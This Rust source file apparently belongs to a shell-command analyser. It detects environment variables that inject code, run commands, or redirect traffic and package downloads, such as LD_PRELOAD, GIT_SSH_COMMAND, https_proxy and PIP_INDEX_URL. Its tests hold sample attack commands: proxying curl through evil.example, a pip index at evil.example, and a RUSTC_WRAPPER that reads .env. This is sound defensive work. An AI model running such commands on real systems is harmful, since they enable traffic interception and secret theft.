//! Variables that change what a program does: ones that load code into it (`LD_PRELOAD`,
//! `NODE_OPTIONS=--require …`), name a command it runs (`PAGER`, `GIT_SSH_COMMAND`),
//! send its traffic through a proxy (`https_proxy`), point it at a configuration or a
//! package index elsewhere (`CURL_HOME`, `PIP_INDEX_URL`), or change which program a name
//! runs (`PATH`). Set for one command or exported earlier, they count for every command
//! that runs while they are set (git's own variables are the git model's).

use crate::effect::{NetTarget, RunAs, ShellEffect};
use crate::words::{Expanded, VarValue};

use super::context::WalkCx;
use super::state::Stdin;

/// What a variable does to the programs that see it.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Kind {
    /// Loads code (a library, a module) into the program.
    LoadsCode,
    /// Its value is a command the program runs.
    RunsCommand,
    /// Its value is shell code the shell runs.
    RunsShellCode,
    /// All of the program's traffic goes through the host it names.
    Proxy,
    /// A package index or registry downloads come from.
    Index,
    /// The program reads its configuration (which can change anything) from elsewhere.
    Config,
}

pub(crate) fn kind_of(name: &str) -> Option<Kind> {
    use Kind::*;
    Some(match name {
        "LD_PRELOAD"
        | "LD_LIBRARY_PATH"
        | "LD_AUDIT"
        | "DYLD_INSERT_LIBRARIES"
        | "DYLD_LIBRARY_PATH"
        | "GCONV_PATH"
        | "PERL5OPT"
        | "PERL5LIB"
        | "PERLLIB"
        | "RUBYOPT"
        | "RUBYLIB"
        | "PYTHONSTARTUP"
        | "PYTHONPATH"
        | "PYTHONHOME"
        | "PYTHONUSERBASE"
        | "NODE_PATH"
        | "JAVA_TOOL_OPTIONS"
        | "_JAVA_OPTIONS"
        | "JDK_JAVA_OPTIONS"
        | "LUA_INIT"
        | "LUA_PATH"
        | "LUA_CPATH"
        | "R_PROFILE"
        | "R_PROFILE_USER" => LoadsCode,
        "BASH_ENV" | "ENV" | "PROMPT_COMMAND" | "ZDOTDIR" => RunsShellCode,
        "PAGER"
        | "MANPAGER"
        | "GIT_PAGER"
        | "EDITOR"
        | "VISUAL"
        | "GIT_EDITOR"
        | "LESSOPEN"
        | "LESSCLOSE"
        | "BROWSER"
        | "GIT_SSH"
        | "GIT_SSH_COMMAND"
        | "GIT_ASKPASS"
        | "SSH_ASKPASS"
        | "SUDO_ASKPASS"
        | "GIT_EXTERNAL_DIFF"
        | "GIT_PROXY_COMMAND"
        | "RUSTC_WRAPPER"
        | "RUSTC_WORKSPACE_WRAPPER"
        | "RUSTC"
        | "RUSTDOC"
        | "CC"
        | "CXX"
        | "LD"
        | "AR"
        | "MAKE"
        | "PKG_CONFIG" => RunsCommand,
        "http_proxy"
        | "https_proxy"
        | "ftp_proxy"
        | "all_proxy"
        | "HTTP_PROXY"
        | "HTTPS_PROXY"
        | "FTP_PROXY"
        | "ALL_PROXY"
        | "RSYNC_PROXY"
        | "npm_config_proxy"
        | "npm_config_https_proxy"
        | "NPM_CONFIG_PROXY"
        | "NPM_CONFIG_HTTPS_PROXY"
        | "PIP_PROXY"
        | "YARN_HTTP_PROXY"
        | "YARN_HTTPS_PROXY" => Proxy,
        "PIP_INDEX_URL"
        | "PIP_EXTRA_INDEX_URL"
        | "PIP_FIND_LINKS"
        | "UV_INDEX_URL"
        | "UV_EXTRA_INDEX_URL"
        | "UV_INDEX"
        | "npm_config_registry"
        | "NPM_CONFIG_REGISTRY"
        | "YARN_REGISTRY"
        | "YARN_NPM_REGISTRY_SERVER"
        | "GOPROXY"
        | "GOINSECURE"
        | "GONOSUMDB"
        | "GONOSUMCHECK"
        | "GEM_SOURCE"
        | "BUNDLE_MIRROR__ALL" => Index,
        "CURL_HOME"
        | "WGETRC"
        | "PIP_CONFIG_FILE"
        | "NPM_CONFIG_USERCONFIG"
        | "npm_config_userconfig"
        | "NPM_CONFIG_GLOBALCONFIG"
        | "npm_config_globalconfig"
        | "CARGO_HOME"
        | "KUBECONFIG"
        | "DOCKER_CONFIG"
        | "XDG_CONFIG_HOME"
        | "HOME"
        | "GNUPGHOME"
        | "PYTHONNOUSERSITE"
        | "BUNDLE_GEMFILE"
        | "MAVEN_OPTS"
        | "GRADLE_OPTS"
        | "GRADLE_USER_HOME"
        | "SSL_CERT_FILE"
        | "CURL_CA_BUNDLE"
        | "REQUESTS_CA_BUNDLE"
        | "NODE_EXTRA_CA_CERTS"
        | "GIT_SSL_NO_VERIFY"
        | "NODE_TLS_REJECT_UNAUTHORIZED"
        | "PYTHONHTTPSVERIFY" => Config,
        n if n.ends_with("_PAGER")
            || n.ends_with("_EDITOR")
            || n.ends_with("_COMMAND")
            || n.ends_with("_CMD") =>
        {
            RunsCommand
        }
        n if n.starts_with("CARGO_TARGET_") && n.ends_with("_RUNNER") => RunsCommand,
        n if n.starts_with("CARGO_REGISTRIES_") && n.ends_with("_INDEX") => Index,
        n if n.starts_with("BASH_FUNC_") => RunsShellCode,
        "NODE_OPTIONS" | "GOFLAGS" => LoadsCode,
        _ => return None,
    })
}

/// Variables that only add directories to a module search path.
fn is_search_path(name: &str) -> bool {
    matches!(
        name,
        "PYTHONPATH" | "NODE_PATH" | "PERL5LIB" | "PERLLIB" | "RUBYLIB" | "LUA_PATH"
    )
}

/// A search path whose directories are all relative to where the command runs.
fn relative_only(value: &str) -> bool {
    value.split(':').all(|d| {
        !d.starts_with('/') && !d.starts_with('~') && !d.contains("..") && !d.contains('$')
    })
}

/// `GOFLAGS` runs other programs only through some of its flags.
fn go_flags_run_code(value: &str) -> bool {
    [
        "-toolexec",
        "-exec",
        "-overlay",
        "-modfile",
        "-pgo",
        "-ldflags",
        "-gcflags",
        "-asmflags",
    ]
    .iter()
    .any(|f| value.contains(f))
}

/// The modules Python imports at start-up from each directory of a `PYTHONPATH`.
fn startup_modules(cx: &mut WalkCx<'_>, path: &str) {
    for dir in path.split(':') {
        let dir = if dir.is_empty() { "." } else { dir };
        for module in ["sitecustomize.py", "usercustomize.py"] {
            let p = cx.path(&Expanded {
                text: format!("{dir}/{module}"),
                ..Default::default()
            });
            cx.runs_file(
                p,
                RunAs::Script {
                    interpreter: "python3".into(),
                },
                Vec::new(),
            );
        }
    }
}

/// `NODE_OPTIONS` only loads code through some of its options.
fn node_options_load_code(value: &str) -> bool {
    value.split_whitespace().any(|o| {
        [
            "-r",
            "--require",
            "--import",
            "--loader",
            "--experimental-loader",
            "--experimental-specifier-resolution",
        ]
        .iter()
        .any(|flag| o == *flag || o.starts_with(&format!("{flag}=")))
    })
}

/// The variables in effect for `program` that change what it does, as effects: `env`,
/// set for it alone (`env VAR=x program`), and the shell's.
pub(crate) fn environment(cx: &mut WalkCx<'_>, program: &str, env: &[(String, VarValue)]) {
    let mut vars: Vec<(String, VarValue)> = env.to_vec();
    let shell: Vec<(String, VarValue)> = cx
        .st
        .vars
        .iter()
        .filter(|(k, _)| kind_of(k).is_some() && !env.iter().any(|(e, _)| e == *k))
        .map(|(k, v)| (k.clone(), v.clone()))
        .collect();
    vars.extend(shell);
    vars.sort_by(|a, b| a.0.cmp(&b.0));
    for (name, value) in vars {
        if name == "PATH" {
            continue;
        }
        let Some(kind) = kind_of(&name) else { continue };
        let text = match &value {
            VarValue::Static(t) | VarValue::Glob(t) => Some(t.as_str()),
            VarValue::Dynamic => None,
        };
        match (kind, text) {
            (_, Some("")) => {}
            // The repository's own code, by a relative path (`PYTHONPATH=.`, `NODE_PATH=lib`);
            // Python also runs any `sitecustomize.py` there at start-up.
            (Kind::LoadsCode, Some(v)) if is_search_path(&name) && relative_only(v) => {
                if name == "PYTHONPATH" {
                    startup_modules(cx, v);
                }
            }
            (Kind::LoadsCode, Some(v)) if name == "GOFLAGS" && !go_flags_run_code(v) => {}
            (Kind::LoadsCode, Some(v)) if name == "NODE_OPTIONS" && !node_options_load_code(v) => {}
            (Kind::LoadsCode, _) => cx.unparseable(format!("`{name}` loads code into `{program}`")),
            (Kind::RunsShellCode, _) => {
                cx.unparseable(format!("`{name}` makes `{program}` run shell code"))
            }
            (Kind::RunsCommand, Some(cmd)) => {
                // The command runs without the variable that names it (or it would name
                // itself again).
                let cmd = cmd.trim_start_matches(['|', '-', '!']).to_owned();
                let mut child = cx.st.clone();
                child.vars.remove(&name);
                cx.walk.script(&cmd, &mut child, &Stdin::Tty);
            }
            (Kind::RunsCommand, None) => cx.unparseable(format!(
                "`{name}` makes `{program}` run a command computed at run time"
            )),
            (Kind::Proxy | Kind::Index, Some(url)) => {
                let mut data_from = cx.stdin.data();
                data_from.extend(cx.subst_reads.iter().cloned());
                cx.emit(ShellEffect::Connect {
                    target: proxy_target(url),
                    sends: kind == Kind::Proxy && !data_from.is_empty(),
                    data_from,
                });
                if kind == Kind::Proxy {
                    cx.unparseable(format!(
                        "`{name}` sends `{program}`'s traffic through `{url}`, which sees what it sends"
                    ));
                }
            }
            (Kind::Proxy | Kind::Index, None) => cx.unparseable(format!(
                "`{name}` points `{program}` at a host computed at run time"
            )),
            (Kind::Config, _) => cx.unparseable(format!(
                "`{name}` makes `{program}` read its configuration or trust settings from elsewhere"
            )),
        }
    }
}

/// A proxy or index as a connection target (`host:port` without a scheme too).
fn proxy_target(value: &str) -> NetTarget {
    if value.contains("://") {
        NetTarget::Url {
            url: value.to_owned(),
        }
    } else {
        let (host, port) = value
            .rsplit_once(':')
            .map_or((value, None), |(h, p)| (h, p.parse().ok()));
        NetTarget::Host {
            host: host.to_owned(),
            port,
        }
    }
}

/// Directories a `PATH` assignment searches before the system's, where the task may have
/// put a program: relative ones, the current directory, temp directories. A program name
/// run while such a `PATH` is set may be a file there, which the analysis layer looks at.
pub(crate) fn path_probes(cx: &mut WalkCx<'_>, name: &str, args: &[Expanded]) {
    let Some(value) = cx.st.vars.get("PATH").cloned() else {
        return;
    };
    let VarValue::Static(path) = value else {
        return cx.unparseable(format!(
            "`PATH` is computed at run time, so which `{name}` runs cannot be told"
        ));
    };
    for dir in path.split(':') {
        if matches!(dir, "$PATH" | "${PATH}") {
            // The rest is the PATH the task started with.
            break;
        }
        let writable = dir.is_empty()
            || !dir.starts_with('/') && !dir.starts_with('~')
            || ["/tmp", "/var/tmp", "/dev/shm"]
                .iter()
                .any(|t| dir == *t || dir.starts_with(&format!("{t}/")));
        if !writable {
            continue;
        }
        let file = Expanded {
            text: format!("{}/{name}", if dir.is_empty() { "." } else { dir }),
            ..Default::default()
        };
        let path = cx.path(&file);
        cx.runs_file(
            path,
            RunAs::Program,
            args.iter().map(|a| a.text.clone()).collect(),
        );
    }
}

/// The value of `NAME=value` as the shell state keeps it: a `PATH` that adds to the
/// inherited one (`PATH=./bin:$PATH`) is kept as text, so the directories it adds can be
/// judged.
pub(crate) fn assigned_value(name: &str, e: &Expanded) -> VarValue {
    if !e.dynamic {
        return VarValue::Static(e.text.clone());
    }
    // `PYTHONPATH=$PYTHONPATH:lib`: the inherited value is the environment the task started
    // in; only what the command adds is new.
    if name != "PATH" && is_search_path(name) {
        let own = [format!("${name}"), format!("${{{name}}}")];
        let added: Vec<&str> = e
            .text
            .split(':')
            .filter(|c| !c.is_empty() && !own.iter().any(|o| o == c))
            .collect();
        if !added.iter().any(|c| c.contains(['$', '`'])) {
            return VarValue::Static(added.join(":"));
        }
    }
    let only_path_is_computed = name == "PATH"
        && !e
            .text
            .replace("${PATH}", "")
            .replace("$PATH", "")
            .contains(['$', '`']);
    if only_path_is_computed {
        VarValue::Static(e.text.clone())
    } else {
        VarValue::Dynamic
    }
}

#[cfg(test)]
mod tests {
    use crate::analyze::testing::walk;

    fn unparseable(cmd: &str) -> bool {
        walk(cmd).iter().any(|e| e.starts_with("unparseable"))
    }

    #[test]
    fn variables_that_load_code_run_commands_or_redirect() {
        assert!(unparseable("LD_PRELOAD=./x.so ls"));
        assert!(unparseable("export PERL5OPT=-Mx; perl -e 1"));
        assert!(unparseable("NODE_OPTIONS='--require ./hook.js' npm test"));
        assert!(!unparseable(
            "NODE_OPTIONS=--max-old-space-size=4096 node -e 1"
        ));
        assert!(unparseable("BASH_ENV=./x.sh bash -c 'true'"));
        assert!(unparseable("CURL_HOME=. curl https://x.example"));
        let e = walk("https_proxy=http://evil.example:8080 curl https://github.com");
        assert!(
            e.iter()
                .any(|x| x.starts_with("connect http://evil.example:8080")),
            "{e:?}"
        );
        let e = walk("PIP_INDEX_URL=https://evil.example/simple pip install x");
        assert!(
            e.iter()
                .any(|x| x.starts_with("connect https://evil.example/simple")),
            "{e:?}"
        );
        let e = walk("RUSTC_WRAPPER='cat .env' cargo build");
        assert!(e.contains(&"read .env".to_owned()), "{e:?}");
        assert!(!unparseable("LANG=C ls"));
        assert!(!unparseable("PYTHONPATH=.:src python3 -c 'print(1)'"));
        let e = walk("PYTHONPATH=. python3 -c 'import json'");
        assert!(
            e.iter()
                .any(|x| x.starts_with("runs ./sitecustomize.py as python3 script")),
            "{e:?}"
        );
        assert!(unparseable("GOFLAGS=-toolexec=./z.sh go build ./..."));
        assert!(!unparseable("GOFLAGS=-mod=mod go build ./..."));
        assert!(unparseable("PYTHONPATH=/tmp/x python3 -c 'print(1)'"));
    }

    #[test]
    fn a_path_with_writable_directories_probes_them() {
        let e = walk("PATH=.:$PATH ls");
        assert!(
            e.iter().any(|x| x.starts_with("runs ./ls as program")),
            "{e:?}"
        );
        let e = walk("export PATH=$HOME/.cargo/bin:$PATH; cargo build");
        assert!(
            !e.iter()
                .any(|x| x.starts_with("runs") || x.starts_with("unparseable")),
            "{e:?}"
        );
        assert!(unparseable("PATH=$(pwd)/bin:$PATH tool"));
    }
}
